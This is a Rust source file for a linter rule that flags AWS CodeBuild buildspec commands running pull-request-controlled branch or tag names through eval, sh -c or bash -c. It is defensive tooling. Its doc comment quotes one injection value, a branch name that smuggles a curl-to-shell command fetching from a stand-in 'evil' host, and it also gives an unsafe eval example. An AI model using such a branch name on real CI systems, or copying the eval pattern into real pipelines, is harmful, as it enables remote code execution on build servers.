use crate::lint::findings::Findings;
use crate::lint::grammar::script::statements;
use crate::lint::rule::declare_rule;
use crate::lint::view::Buildspec;

declare_rule! {
    /// Flags names of branches and tags that a shell reads as commands.
    ///
    /// ## Why is this bad?
    /// Whoever opens a pull request chooses the branch's name, and `a;curl${IFS}evil|sh` is one. Without quotes it is
    /// split and expanded; through `eval` it is run.
    ///
    /// ## Fields
    /// `phases.<phase>.commands[]` that name `CODEBUILD_WEBHOOK_*` or `CODEBUILD_SOURCE_VERSION`.
    ///
    /// ## Allowed values
    /// The variable between double quotes, and never through `eval`, `sh -c` or `bash -c`.
    ///
    /// ## Examples
    /// ```yaml bad
    /// version: 0.2
    /// phases:
    ///   build:
    ///     commands:
    ///     - eval git checkout $CODEBUILD_WEBHOOK_HEAD_REF
    /// ```
    /// ```yaml good
    /// version: 0.2
    /// phases:
    ///   build:
    ///     commands:
    ///     - 'git checkout "$CODEBUILD_WEBHOOK_HEAD_REF"'
    /// ```
    WEBHOOK_VARIABLE_EVALUATED = {
        id: "webhook-variable-evaluated",
        category: Buildspec,
        severity: Warning,
        look: Buildspec(webhook_variable_evaluated),
    }
}

/// What strangers may choose.
const CHOSEN: [&str; 5] = [
    "CODEBUILD_WEBHOOK_HEAD_REF",
    "CODEBUILD_WEBHOOK_BASE_REF",
    "CODEBUILD_WEBHOOK_TRIGGER",
    "CODEBUILD_SOURCE_VERSION",
    "CODEBUILD_WEBHOOK_EVENT",
];

fn webhook_variable_evaluated(buildspec: &Buildspec<'_>, findings: &mut Findings<'_>) {
    for command in buildspec.commands() {
        for statement in statements(command.text) {
            let Some(name) = CHOSEN.into_iter().find(|name| is_named(&statement, name)) else { continue };
            let again = ["eval ", "sh -c ", "bash -c "].iter().find(|again| statement.contains(*again));
            if let Some(again) = again {
                findings
                    .report(
                        command.path(),
                        format!(
                            "{} runs `{name}`, which a stranger chooses, through `{}`",
                            command.told(),
                            again.trim()
                        ),
                    )
                    .help(format!(
                        "name it between double quotes, without `{}`: `\"${name}\"`",
                        again.trim()
                    ));
            }
        }
    }
}

fn is_named(statement: &str, name: &str) -> bool {
    statement.contains(&format!("${name}")) || statement.contains(&format!("${{{name}"))
}
